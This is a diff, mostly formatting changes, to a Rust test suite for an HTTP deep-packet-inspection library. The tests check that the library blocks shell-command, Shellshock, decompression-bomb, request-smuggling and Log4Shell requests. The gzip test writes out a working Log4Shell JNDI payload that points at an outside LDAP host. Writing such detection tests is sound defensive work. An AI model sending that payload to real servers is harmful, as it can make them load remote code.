@@ -4,7 +4,9 @@
 
 use std::io::Write;
 
-use picket_dpi::{inspect_bytes, Decision, Http1Inspector, InspectConfig, InspectedRequest, OverLimit};
+use picket_dpi::{
+    inspect_bytes, Decision, Http1Inspector, InspectConfig, InspectedRequest, OverLimit,
+};
 use picket_signatures::Engine;
 use proptest::prelude::*;
 
@@ -40,7 +42,9 @@ fn in_pieces(raw: &[u8], cuts: &[usize], cfg: &InspectConfig) -> Vec<InspectedRe
 }
 
 fn summary(reqs: &[InspectedRequest]) -> Vec<(Decision, Vec<String>)> {
-    reqs.iter().map(|r| (r.verdict.decision(), ids(r))).collect()
+    reqs.iter()
+        .map(|r| (r.verdict.decision(), ids(r)))
+        .collect()
 }
 
 fn corpus() -> Vec<Vec<u8>> {
@@ -101,12 +105,28 @@ GET /e HTTP/1.1\r\nHost: x\r\n\r\n";
     let decisions: Vec<Decision> = reqs.iter().map(|r| r.verdict.decision()).collect();
     assert_eq!(
         decisions,
-        [Decision::Allow, Decision::Allow, Decision::Block, Decision::Block, Decision::Allow]
+        [
+            Decision::Allow,
+            Decision::Allow,
+            Decision::Block,
+            Decision::Block,
+            Decision::Allow
+        ]
     );
     assert_eq!(reqs[1].body_len, 13);
-    assert!(ids(&reqs[2]).contains(&"PKT-SHELL-CMD".to_string()), "{:?}", ids(&reqs[2]));
+    assert!(
+        ids(&reqs[2]).contains(&"PKT-SHELL-CMD".to_string()),
+        "{:?}",
+        ids(&reqs[2])
+    );
     // The shellshock payload sits in a chunked trailer.
-    assert!(ids(&reqs[3]).iter().any(|i| i.starts_with("PKT-SHELLSHOCK")), "{:?}", ids(&reqs[3]));
+    assert!(
+        ids(&reqs[3])
+            .iter()
+            .any(|i| i.starts_with("PKT-SHELLSHOCK")),
+        "{:?}",
+        ids(&reqs[3])
+    );
 }
 
 #[test]
@@ -129,7 +149,10 @@ fn payload_after_padding_is_found_up_to_the_limit() {
 #[test]
 fn over_the_limit_fails_open_or_closed_as_configured() {
     let body = "x".repeat(2 << 20);
-    let raw = format!("POST /up HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{body}", body.len());
+    let raw = format!(
+        "POST /up HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{body}",
+        body.len()
+    );
     let open = InspectConfig::default();
     let reqs = inspect_bytes(engine(), &open, raw.as_bytes());
     let r = &reqs[0];
@@ -140,7 +163,12 @@ fn over_the_limit_fails_open_or_closed_as_configured() {
         over_limit: OverLimit::FailClosed,
         ..InspectConfig::default()
     };
-    assert_eq!(inspect_bytes(engine(), &closed, raw.as_bytes())[0].verdict.decision(), Decision::Block);
+    assert_eq!(
+        inspect_bytes(engine(), &closed, raw.as_bytes())[0]
+            .verdict
+            .decision(),
+        Decision::Block
+    );
 }
 
 #[test]
@@ -160,13 +188,18 @@ fn decompression_bomb_is_a_named_verdict() {
     let reqs = inspect_bytes(engine(), &InspectConfig::default(), &raw);
     let r = &reqs[0];
     assert_eq!(r.verdict.decision(), Decision::Block);
-    assert!(ids(r).contains(&"PKT-PROTO-BOMB".to_string()), "{:?}", ids(r));
+    assert!(
+        ids(r).contains(&"PKT-PROTO-BOMB".to_string()),
+        "{:?}",
+        ids(r)
+    );
 }
 
 #[test]
 fn gzip_body_is_inspected_decoded() {
     let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    gz.write_all(br#"{"x":"${jndi:ldap://203.0.113.5/a}"}"#).unwrap();
+    gz.write_all(br#"{"x":"${jndi:ldap://203.0.113.5/a}"}"#)
+        .unwrap();
     let body = gz.finish().unwrap();
     let mut raw = format!(
         "POST /api HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
@@ -175,7 +208,11 @@ fn gzip_body_is_inspected_decoded() {
     .into_bytes();
     raw.extend_from_slice(&body);
     let reqs = inspect_bytes(engine(), &InspectConfig::default(), &raw);
-    assert!(ids(&reqs[0]).contains(&"PKT-LOG4J-JNDI".to_string()), "{:?}", ids(&reqs[0]));
+    assert!(
+        ids(&reqs[0]).contains(&"PKT-LOG4J-JNDI".to_string()),
+        "{:?}",
+        ids(&reqs[0])
+    );
 }
 
 #[test]
@@ -186,7 +223,11 @@ GET /admin HTTP/1.1\r\nHost: x\r\n\r\n";
     let cfg = InspectConfig::default();
     let mut inspector = Http1Inspector::new(engine(), &cfg);
     inspector.push(raw, &mut out);
-    assert_eq!(out.len(), 1, "nothing after ambiguous framing is taken as a request");
+    assert_eq!(
+        out.len(),
+        1,
+        "nothing after ambiguous framing is taken as a request"
+    );
     assert_eq!(out[0].verdict.decision(), Decision::Block);
     assert!(inspector.ignored() > 0);
 }
